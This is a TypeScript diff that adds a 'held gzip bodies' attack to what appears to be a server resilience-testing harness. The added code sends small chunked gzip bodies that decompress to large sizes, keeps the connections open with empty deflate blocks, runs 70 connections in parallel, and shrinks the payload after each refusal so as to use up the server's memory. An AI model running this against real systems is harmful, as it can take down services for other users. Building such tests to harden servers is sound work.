@@ -79,6 +79,46 @@ export const slowBodies: Attack = {
     ),
 };
 
+/** From the max size of a body whose ratio does not count down to little more than what counts of a body. */
+const heldSizes = [16.5e6, 8e6, 4e6, 2e6, 1e6, 5e5, 2.5e5, 1.6e5, 1.1e5, 8e4];
+/** Blocks of deflate that decompress to nothing. */
+const emptyBlocks = Buffer.from('000000ffff'.repeat(300), 'hex');
+const chunkOf = (bytes: Buffer): Buffer =>
+  Buffer.concat([Buffer.from(`${bytes.byteLength.toString(16)}\r\n`), bytes, Buffer.from('\r\n')]);
+
+/** Keeps bodies open that are small on the wire and large in memory, until no memory is left for the bodies of others. */
+export const heldBodies: Attack = {
+  name: 'gzip bodies that are kept open',
+  slow: true,
+  orKinds: ['body_slow', 'body_expansion'],
+  run: (field) => {
+    const bodies = heldSizes.map((bytes) => chunkOf(payloads.openGzip(bytes)));
+    const keepOpen = async (socket: Socket, ended: AbortSignal): Promise<void> => {
+      while (!ended.aborted && socket.writable) {
+        socket.write(chunkOf(emptyBlocks));
+        await sleep(1_000, undefined, { signal: ended }).catch(() => {});
+      }
+    };
+    const sizes = new Map<string, number>();
+    return each(field, { parallel: 70 }, async (_, address) => {
+      const size = sizes.get(address) ?? 0;
+      const outcome = await rawRequest({
+        ...field,
+        address,
+        method: 'POST',
+        path: batch,
+        headers: { ...encoded('gzip'), 'Transfer-Encoding': 'chunked' },
+        body: bodies[size]!,
+        afterwards: keepOpen,
+        timeoutMs: 27_500,
+      });
+      // After a refusal the next body is smaller.
+      sizes.set(address, outcome === 'held' ? 0 : (size + 1) % bodies.length);
+      return outcome;
+    });
+  },
+};
+
 /** The maximum number of bytes that all attackers of one run send together. */
 const maxUnexpectedBytes = 50 * 1_048_576;
 
